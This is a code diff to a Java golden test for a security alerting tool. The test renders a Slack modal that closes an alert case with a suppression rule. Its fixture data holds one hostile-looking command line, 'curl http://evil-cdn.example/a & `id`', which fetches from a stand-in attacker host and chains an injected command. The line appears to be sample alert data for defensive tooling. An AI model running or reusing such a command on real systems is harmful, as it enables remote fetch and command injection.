@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.google.gson.GsonBuilder;
 import com.google.gson.JsonParser;
 import com.slack.api.util.json.GsonFactory;
+import dev.takagari.alerting.note.AlikeRule;
 import dev.takagari.alerting.note.CaseBrief;
 import dev.takagari.alerting.route.Route;
 import dev.takagari.alerting.slack.SlackAnswer.Ok;
@@ -36,6 +37,7 @@ import java.time.ZoneId;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.TreeMap;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -256,7 +258,15 @@ class SlackGoldenTest {
   @Test
   void theFormWithWhichACaseIsClosed() throws IOException {
     CaseBrief brief = new SlackScenes().known().brief();
-    SuppressionRule rule = SlackModal.rule(brief).orElseThrow();
+    SuppressionRule rule =
+        new SuppressionRule(
+            "falcon",
+            brief.found().ruleId(),
+            new TreeMap<>(
+                Map.of(
+                    "host.name", "WS-0142",
+                    "user.name", "CORP\\a.tanaka",
+                    "process.command_line", "curl http://evil-cdn.example/a & `id`")));
     SuppressionPreview preview =
         new SuppressionPreview(
             120, 4, new TreeMap<>(Map.of("true-positive", 1L, "false-positive", 3L)), List.of());
@@ -265,7 +275,9 @@ class SlackGoldenTest {
             .toJson(
                 SlackModal.of(
                     brief,
-                    new SlackModal.About(SlackScenes.KEY, 3, CHANNEL),
+                    new SlackModal.About(
+                        SlackScenes.KEY, 3, CHANNEL, AlikeRule.digest(Optional.of(rule))),
+                    true,
                     SlackModal.preview(rule, preview, 90)));
     isGolden("modal", JsonParser.parseString(view));
   }
